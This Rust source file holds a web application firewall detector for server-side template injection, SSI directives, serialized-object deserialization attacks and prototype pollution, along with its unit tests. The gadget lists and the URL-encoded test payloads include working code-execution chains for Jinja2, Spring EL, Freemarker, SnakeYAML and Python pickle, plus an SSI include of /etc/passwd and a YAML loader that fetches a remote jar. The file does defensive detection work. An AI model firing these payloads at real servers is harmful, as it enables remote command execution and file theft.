//! Server-side code reaching a template engine, the web server or a deserializer (rules
//! 100804–100806), in the injection targets (arguments and their names, cookies, `User-Agent`,
//! `Referer`, XML text and attributes):
//!
//! - 100804, server-side template injection: a template expression (`{{ }}`, `${ }`, `#{ }`,
//!   `*{ }`, `{% %}`, `<%= %>`) holding the probe attackers send first (`7*7`, `7*'7'`) or
//!   the introspection every exploit then climbs through (`__class__`, `__globals__`,
//!   `T(java.lang.Runtime)`, `constructor.constructor`, `.getClass()`), and the Freemarker,
//!   Twig and Smarty gadgets that run commands. A plain placeholder such as `{{name}}` or
//!   `${price}` passes.
//! - 100805, server-side includes: an SSI directive (`<!--#exec cmd=…-->`, `<!--#include`).
//! - 100806, serialized objects: a PHP object (`O:8:"stdClass":1:{…}`, as CRS 933170), a Java
//!   serialization stream (`\xac\xed\x00\x05`, base64 `rO0AB…`, as CRS 944200/944210) or a
//!   node-serialize function (`_$$ND_FUNC$$_`, as CRS 934100), a YAML tag that builds an
//!   arbitrary object (`!!python/object/apply:os.system`, SnakeYAML's
//!   `!!javax.script.ScriptEngineManager`) or a Python pickle importing `os.system`.
//! - 100807, prototype pollution: an argument name with a `__proto__` segment or
//!   `constructor` then `prototype` (`__proto__[isAdmin]=1`, JSON `{"__proto__": {…}}`), as
//!   CRS 934130.

use memchr::memmem;

use super::classes::ByteClasses;
use super::targets::Classified;
use super::targets::{report_critical, TargetKind};
use super::{Deadline, Detector, Finding, OutOfTime};

use crate::request::Request;

/// Rule id: a server-side template expression probing or escaping the template engine.
pub const TEMPLATE_INJECTION: u32 = 100804;
/// Rule id: a server-side include directive.
pub const SSI_INJECTION: u32 = 100805;
/// Rule id: a PHP, Java or Node.js serialized object.
pub const SERIALIZED_OBJECT: u32 = 100806;
/// Rule id: JavaScript prototype pollution through an argument name.
pub const PROTOTYPE_POLLUTION: u32 = 100807;

const MSG_TEMPLATE: &str = "Server-side template injection or Node.js process access";
const MSG_SSI: &str = "Server-side include (SSI) injection";
const MSG_SERIALIZED: &str = "Deserialization attack: PHP, Java or Node.js serialized object";
const MSG_PROTOTYPE: &str =
    "Prototype pollution: __proto__ or constructor.prototype in an argument name";

/// Template expression delimiters: an opener and the closer that ends it.
const DELIMITERS: &[(&[u8], &[u8])] = &[
    (b"{{", b"}}"),
    (b"${", b"}"),
    (b"#{", b"}"),
    (b"*{", b"}"),
    (b"@{", b"}"),
    (b"{%", b"%}"),
    (b"<%", b"%>"),
];

/// The most bytes of an expression looked at after its opener.
const EXPRESSION_MAX: usize = 512;

/// What template exploits reach for inside an expression, lower case: Python object
/// introspection (Jinja2, Mako, Tornado), Java and Spring EL reflection, JavaScript's
/// constructor escape (AngularJS, Handlebars, Pug), Ruby and Python command calls.
const EXPRESSION_GADGETS: &[&str] = &[
    "__class__",
    "__mro__",
    "__subclasses__",
    "__globals__",
    "__builtins__",
    "__import__",
    "__init__",
    "__getattribute__",
    "_self.env",
    "t(java.",
    "new java.",
    ".getclass()",
    ".forname(",
    "getruntime()",
    "constructor.constructor",
    "constructor(",
    "process.mainmodule",
    "child_process",
    "os.popen",
    ".popen(",
    "subprocess",
    "os.system",
    "system(",
    "exec(",
    "request.application",
    "config.items()",
    "lipsum.",
    "cycler.",
    "self._templatereference",
];

/// Gadgets that run commands whatever surrounds them, lower case: Freemarker's `Execute`,
/// Twig's filter callback, Smarty's `{php}` and static calls, Node.js's process modules.
const ANYWHERE_GADGETS: &[&str] = &[
    "child_process",
    "process.mainmodule",
    "freemarker.template.utility.execute",
    "freemarker.template.utility.objectconstructor",
    "registerundefinedfiltercallback",
    "{php}",
    "{system(",
    "{smarty_internal_",
];

/// SSI directives (after `<!--#`), lower case.
const SSI_DIRECTIVES: &[&str] = &[
    "exec", "include", "echo", "config", "set", "printenv", "fsize", "flastmod", "if ", "elif ",
];

/// Base64 of a Java serialization stream's magic `AC ED 00 05`, at each of the three offsets
/// it can start at (case matters).
const JAVA_BASE64_MAGIC: [&[u8]; 3] = [b"rO0AB", b"KztAAU", b"Cs7QAF"];

/// The shortest value the serialized-object markers are looked for in: the length of the
/// shortest marker, `!!java.`.
const SERIALIZED_MIN: usize = 7;

/// node-serialize's function marker, as is and in base64 (case matters).
const NODE_FUNCTION_MARKERS: [&[u8]; 2] = [b"_$$ND_FUNC$$_", b"XyQkTkRfRlVOQyQkX"];

/// YAML tags that make PyYAML, SnakeYAML or Psych build an arbitrary object (case matters).
const YAML_OBJECT_TAGS: [&[u8]; 9] = [
    b"!!python/object",
    b"!!python/name:",
    b"!!python/module:",
    b"!!ruby/object:",
    b"!!ruby/hash:",
    b"!!javax.",
    b"!!java.",
    b"!!com.sun.",
    b"!!org.",
];

/// A Python pickle (protocol 0) that imports a command runner, as is and in base64 (case
/// matters): `cos\nsystem`, `cposix\nsystem`, `c__builtin__\n`.
const PICKLE_MARKERS: [&[u8]; 6] = [
    b"cos\nsystem",
    b"cposix\nsystem",
    b"c__builtin__\n",
    b"Y29zCnN5c3RlbQ",
    b"Y3Bvc2l4CnN5c3RlbQ",
    b"Y19fYnVpbHRpbl9fC",
];

/// The server-side injection detector.
#[derive(Debug)]
pub struct ServerSide {
    anywhere: aho_corasick::AhoCorasick,
    expression: aho_corasick::AhoCorasick,
    serialized: aho_corasick::AhoCorasick,
}

impl ServerSide {
    /// Builds the detector and its literal automata.
    pub fn new() -> ServerSide {
        let ci = |patterns: &[&str]| {
            aho_corasick::AhoCorasick::builder()
                .ascii_case_insensitive(true)
                .build(patterns)
                .expect("a small literal set")
        };
        ServerSide {
            anywhere: ci(ANYWHERE_GADGETS),
            expression: ci(EXPRESSION_GADGETS),
            serialized: aho_corasick::AhoCorasick::new(
                JAVA_BASE64_MAGIC
                    .iter()
                    .chain(&NODE_FUNCTION_MARKERS)
                    .chain(&YAML_OBJECT_TAGS)
                    .chain(&PICKLE_MARKERS),
            )
            .expect("a small literal set"),
        }
    }

    /// Which rule `value` fires, if any.
    fn check(&self, value: &[u8], classes: ByteClasses) -> Option<(u32, &'static str)> {
        let braces = classes.any(ByteClasses::TEMPLATE);
        // Every anywhere gadget holds a `_`, `.` or `{` and letters; most values (words,
        // prices, numbers) lack one or the other.
        let gadget_bytes = classes.any(ByteClasses::GADGET) && classes.any(ByteClasses::ALPHA);
        if (gadget_bytes && self.anywhere.is_match(value))
            || (braces && self.has_template_expression(value))
        {
            return Some((TEMPLATE_INJECTION, MSG_TEMPLATE));
        }
        if braces && has_ssi_directive(value) {
            return Some((SSI_INJECTION, MSG_SSI));
        }
        if (braces && has_php_object(value))
            || (memchr::memchr(0xac, value).is_some()
                && memmem::find(value, b"\xac\xed\x00\x05").is_some())
            || is_hex_java_stream(value)
            || (value.len() >= SERIALIZED_MIN && self.serialized.is_match(value))
        {
            return Some((SERIALIZED_OBJECT, MSG_SERIALIZED));
        }
        None
    }

    /// True when a template expression in `value` holds an arithmetic probe or a gadget.
    fn has_template_expression(&self, value: &[u8]) -> bool {
        DELIMITERS.iter().any(|&(open, close)| {
            memmem::find_iter(value, open).any(|at| {
                let rest = &value[at + open.len()..];
                let rest = &rest[..rest.len().min(EXPRESSION_MAX)];
                let Some(end) = memmem::find(rest, close) else {
                    return false;
                };
                let inner = rest[..end].strip_prefix(b"=").unwrap_or(&rest[..end]);
                is_arithmetic_probe(inner) || self.expression.is_match(inner)
            })
        })
    }
}

impl Default for ServerSide {
    fn default() -> Self {
        ServerSide::new()
    }
}

impl Detector for ServerSide {
    fn inspect(
        &self,
        _req: &Request<'_>,
        inputs: &Classified<'_, '_>,
        deadline: &Deadline,
        out: &mut Vec<Finding>,
    ) -> Result<(), OutOfTime> {
        report_critical(
            inputs,
            deadline,
            out,
            |_| true,
            |target| match target.kind {
                TargetKind::ArgName => {
                    is_prototype_path(target.value).then_some((PROTOTYPE_POLLUTION, MSG_PROTOTYPE))
                }
                _ => self.check(target.value, target.classes),
            },
        )
    }
}

/// True for the probe `7*7`, `7 * '7'` or `{{1337*1337}}`: two numbers (the second may be
/// quoted) multiplied, nothing else.
fn is_arithmetic_probe(inner: &[u8]) -> bool {
    let trimmed = inner.trim_ascii();
    let Some(star) = memchr::memchr(b'*', trimmed) else {
        return false;
    };
    let is_number = |s: &[u8]| !s.is_empty() && s.iter().all(u8::is_ascii_digit);
    let left = trimmed[..star].trim_ascii();
    let right = trimmed[star + 1..].trim_ascii();
    let right = match right {
        [q @ (b'\'' | b'"'), middle @ .., last] if q == last => middle,
        _ => right,
    };
    is_number(left) && is_number(right)
}

/// True when `value` holds `<!--#` followed by an SSI directive.
fn has_ssi_directive(value: &[u8]) -> bool {
    memmem::find_iter(value, b"<!--#").any(|at| {
        let rest = &value[at + 5..];
        let rest = &rest[rest.iter().take_while(|b| **b == b' ').count()..];
        SSI_DIRECTIVES
            .iter()
            .any(|d| super::strip_prefix_ci(rest, d.as_bytes()).is_some())
    })
}

/// True when `value` holds a PHP serialized object: `O:<len>:"<class>":<count>:{` (or `C:`
/// for a custom-serialized one).
fn has_php_object(value: &[u8]) -> bool {
    memmem::find_iter(value, b":\"").any(|quote| {
        // Back over the length to `O:` / `C:`.
        let head = &value[..quote];
        let digits = head.iter().rev().take_while(|b| b.is_ascii_digit()).count();
        let Some(kind_at) = head.len().checked_sub(digits + 2) else {
            return false;
        };
        if digits == 0
            || !matches!(head[kind_at], b'O' | b'o' | b'C' | b'c')
            || head[kind_at + 1] != b':'
            || (kind_at > 0 && head[kind_at - 1].is_ascii_alphanumeric())
        {
            return false;
        }
        // Then the class name, its closing quote, the count and the opening brace.
        let rest = &value[quote + 2..];
        let name = rest
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'\\'))
            .count();
        let Some(after) = rest.get(name..).and_then(|r| r.strip_prefix(b"\":")) else {
            return false;
        };
        let count = after.iter().take_while(|b| b.is_ascii_digit()).count();
        name > 0 && count > 0 && after.get(count..).is_some_and(|r| r.starts_with(b":{"))
    })
}

/// True when an argument name reaches an object's prototype: a `__proto__` segment, or a
/// `constructor` segment followed by a `prototype` one (segments split at `[ ] .` and spaces).
fn is_prototype_path(name: &[u8]) -> bool {
    // `__proto__` and `prototype` both hold `proto`.
    if !memchr::memchr_iter(b'p', name).any(|i| name[i..].starts_with(b"proto")) {
        return false;
    }
    let mut segments = name
        .split(|&b| matches!(b, b'[' | b']' | b'.' | b' ' | b'"' | b'\''))
        .filter(|s| !s.is_empty());
    let mut after_constructor = false;
    segments.any(|s| {
        let hit = s == b"__proto__" || (after_constructor && s == b"prototype");
        after_constructor = s == b"constructor";
        hit
    })
}

/// True when `value` starts with a Java serialization stream written in hex (`aced0005`).
fn is_hex_java_stream(value: &[u8]) -> bool {
    super::strip_prefix_ci(value.trim_ascii_start(), b"aced0005").is_some()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::testing::{inspect_post, rule_ids_for_get};

    fn rules_for_query(query: &str) -> Vec<u32> {
        rule_ids_for_get(&ServerSide::new(), &format!("/page?{query}"))
    }

    #[test]
    fn template_probes_and_gadgets_fire() {
        for q in [
            "name=%7B%7B7*7%7D%7D",
            "name=%7B%7B7*%277%27%7D%7D",
            "name=%24%7B7*7%7D",
            "name=%23%7B7*7%7D",
            "name=%3C%25%3D+7*7+%25%3E",
            "name=%7B%7B1337*1337%7D%7D",
            "name=%7B%7Bconfig.__class__.__init__.__globals__%5B%27os%27%5D.popen%28%27id%27%29.read%28%29%7D%7D",
            "name=%7B%7B%27%27.__class__.__mro__%5B1%5D.__subclasses__%28%29%7D%7D",
            "name=%24%7BT%28java.lang.Runtime%29.getRuntime%28%29.exec%28%27id%27%29%7D",
            "name=%7B%7Bconstructor.constructor%28%27alert%281%29%27%29%28%29%7D%7D",
            "name=%7B%7B_self.env.registerUndefinedFilterCallback%28%22exec%22%29%7D%7D",
            "name=%3C%23assign+ex%3D%22freemarker.template.utility.Execute%22%3Fnew%28%29%3E%24%7Bex%28%22id%22%29%7D",
            "name=%7Bphp%7Decho+1%3B%7B%2Fphp%7D",
            "name=%7B%25+import+os+%25%7D%7B%7Bos.system%28%27id%27%29%7D%7D",
            "name=%3C%25%3D+%60id%60+%25%3E%3C%25%3D+system%28%27id%27%29+%25%3E",
        ] {
            assert_eq!(rules_for_query(q), [TEMPLATE_INJECTION], "{q}");
        }
    }

    #[test]
    fn placeholders_and_everyday_braces_pass() {
        for q in [
            "tpl=%7B%7Bname%7D%7D",
            "tpl=Hello+%7B%7B+user.first_name+%7D%7D",
            "price=%24%7Bprice%7D",
            "q=%7B%25+if+user+%25%7D",
            "q=5*3",
            "q=%7B%22a%22%3A1%7D",
            "note=Rate+%7B7*%7D",
            "q=color%3A+%23%7Bfff%7D",
            "q=%3C%25+page+language%3D%22java%22+%25%3E",
            "q=init+__init__.py",
            "q=%3C%21--+a+comment+--%3E",
        ] {
            assert_eq!(rules_for_query(q), Vec::<u32>::new(), "{q}");
        }
    }

    #[test]
    fn ssi_directives_fire() {
        for q in [
            "msg=%3C%21--%23exec+cmd%3D%22ls%22--%3E",
            "msg=%3C%21--%23include+virtual%3D%22%2Fetc%2Fpasswd%22+--%3E",
            "msg=%3C%21--%23+echo+var%3D%22DOCUMENT_ROOT%22+--%3E",
            "msg=%3C%21--%23printenv+--%3E",
        ] {
            assert_eq!(rules_for_query(q), [SSI_INJECTION], "{q}");
        }
        assert!(rules_for_query("msg=%3C%21--%23main-nav--%3E").is_empty());
    }

    #[test]
    fn serialized_objects_fire() {
        for q in [
            "data=O%3A8%3A%22stdClass%22%3A1%3A%7Bs%3A1%3A%22a%22%3Bs%3A2%3A%22id%22%3B%7D",
            "data=a%3A1%3A%7Bi%3A0%3BO%3A4%3A%22Evil%22%3A0%3A%7B%7D%7D",
            "data=C%3A11%3A%22ArrayObject%22%3A21%3A%7Bx%3Ai%3A0%3Ba%3A0%3A%7B%7D%7D",
            "data=O%3A18%3A%22App%5CModels%5CUser%22%3A0%3A%7B%7D",
            "data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
            "data=aced00057372",
            "cfg=%21%21python%2Fobject%2Fapply%3Aos.system+%5B%22id%22%5D",
            "cfg=!!javax.script.ScriptEngineManager+[!!java.net.URLClassLoader+[[!!java.net.URL+[%22http://x/y.jar%22]]]]",
            "cfg=--- !ruby/object:Gem::Installer%0A!!ruby/object:Gem::SpecFetcher",
            "data=cos%0Asystem%0A(S'id'%0AtR.",
            "data=Y29zCnN5c3RlbQooUydpZCcKdFIu",
        ] {
            assert_eq!(rules_for_query(q), [SERIALIZED_OBJECT], "{q}");
        }
        for q in [
            "msg=Great!!+Python/Django+tips",
            "yaml=key:+!!str+123",
            "note=cos+system+design",
            "t=Y29tcGxldGVk",
        ] {
            assert_eq!(rules_for_query(q), [] as [u32; 0], "{q}");
        }
        let found = inspect_post(
            &ServerSide::new(),
            b"application/json",
            br#"{"token":"H4sIAAAAAAAAArO0ABcrO0ABC"}"#,
        );
        assert_eq!(found.len(), 1, "base64 magic inside a value");
    }

    #[test]
    fn node_gadgets_and_prototype_pollution_fire() {
        for q in [
            "foo=_%24%24ND_FUNC%24%24_function%28%29%7B%7D",
            "foo=_%24%24ND_FUNC%24%24_",
            "foo=XyQkTkRfRlVOQyQkXwo%3D",
        ] {
            assert_eq!(rules_for_query(q), [SERIALIZED_OBJECT], "{q}");
        }
        assert_eq!(
            rules_for_query("foo=require(%22child_process%22).exec(%27whoami%27)"),
            [TEMPLATE_INJECTION]
        );
        for q in [
            "__proto__[isAdmin]=1",
            "__proto__.test=test",
            "constructor.prototype.test=test",
            "constructor%5Bprototype%5D%5Btest%5D=test",
            "a[constructor][prototype][onerror]=a",
        ] {
            assert_eq!(rules_for_query(q), [PROTOTYPE_POLLUTION], "{q}");
        }
        let found = inspect_post(
            &ServerSide::new(),
            b"application/json",
            br#"{"text":"a","title":{"__proto__":{"where":{"name":"x"}}}}"#,
        );
        assert_eq!(found.len(), 1);
        for q in [
            "prototype=v2",
            "constructor=Bob+the+Builder",
            "proto=http",
            "q=__proto__",
        ] {
            assert_eq!(rules_for_query(q), Vec::<u32>::new(), "{q}");
        }
    }

    #[test]
    fn serialized_lookalikes_pass() {
        for q in [
            "data=a%3A2%3A%7Bi%3A0%3Bs%3A1%3A%22x%22%3B%7D",
            "time=10%3A30%3A%22late%22",
            "q=BIO%3A3%3A%22x%22",
            "token=dXNlcjEyMzpwYXNzd29yZA%3D%3D",
            "id=ace5",
        ] {
            assert_eq!(rules_for_query(q), Vec::<u32>::new(), "{q}");
        }
    }
}
